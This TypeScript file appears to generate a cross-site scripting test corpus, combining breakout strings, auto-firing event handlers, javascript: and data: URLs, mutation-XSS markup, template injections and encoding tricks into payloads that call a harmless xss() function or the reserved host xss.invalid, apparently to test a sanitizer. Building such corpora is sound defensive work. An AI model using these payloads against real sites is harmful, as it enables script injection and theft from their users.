/** What a vector runs if it gets through. */
const CALLS = ['xss()', 'top.xss()', "parent['xss']()", 'self[`xss`]()'];

/** Ends what a text may be put into: attributes, elements, comments, scripts, templates. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '`>',
  '--></style></title></textarea></script></template>',
  ']]>',
  '</bdi></span></li></ul></div></template>',
  '\u0000',
];

/** Handlers of elements that run without a user, or by the pointer and the focus of this test. */
const HANDLERS: readonly (readonly [string, string])[] = [
  ['img src=x', 'onerror'],
  ['img src="http://xss.invalid/x.png"', 'onload'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1ms', 'onbegin'],
  ['svg><script', 'onload'],
  ['body', 'onpageshow'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['a href=# tabindex=1 autofocus', 'onfocusin'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['marquee', 'onstart'],
  ['div style="animation:x 1ms"', 'onanimationstart'],
  ['div popover=auto', 'onbeforetoggle'],
  ['ois-widget', 'onpointerover'],
  ['math><mi', 'onclick'],
];

const QUOTES = ['"', "'", ''];

/** Elements and addresses that run or load something without a handler. */
const createElements = (call: string): string[] => [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src="http://xss.invalid/x.js"></script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;"></iframe>`,
  `<embed src="javascript:${call}">`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="java\tscript:${call}">x</a>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<meta http-equiv="refresh" content="0;url=http://xss.invalid/">`,
  `<link rel="stylesheet" href="http://xss.invalid/x.css">`,
  `<base href="http://xss.invalid/">`,
  `<style>@import "http://xss.invalid/x.css";</style>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  `<template shadowrootmode="open"><script>${call}</script></template>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
];

/** Texts that are no markup, for addresses, templates and other languages. */
const createTexts = (call: string): string[] => [
  `javascript:${call}`,
  `JaVaScRiPt:${call}//`,
  `\u0001javascript:${call}`,
  `java\nscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  `http://xss.invalid/${call}`,
  `//xss.invalid/${call}`,
  `\${${call}}`,
  `{{${call}}}`,
  `{{constructor.constructor('${call}')()}}`,
  `";${call};//`,
  `';${call};//`,
  `\\";${call};//`,
  `\u2028${call}\u2028`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `expression(${call})`,
];

/** Returns all vectors of the grammar, in the same order each time. */
export function createVectors(): string[] {
  const vectors = new Set<string>();
  for (const call of CALLS) {
    const handlers = HANDLERS.flatMap(([element, handler]) =>
      QUOTES.map((quote) => `<${element} ${handler}=${quote}${call}${quote}>`),
    );
    for (const breakout of BREAKOUTS)
      for (const body of [...handlers, ...createElements(call)]) vectors.add(breakout + body);
    // Handlers without an element of their own, for attributes.
    for (const [, handler] of HANDLERS)
      for (const quote of QUOTES) vectors.add(`${quote} ${handler}=${call} autofocus x=${quote}`);
    for (const text of createTexts(call)) vectors.add(text);
  }
  return [...vectors];
}
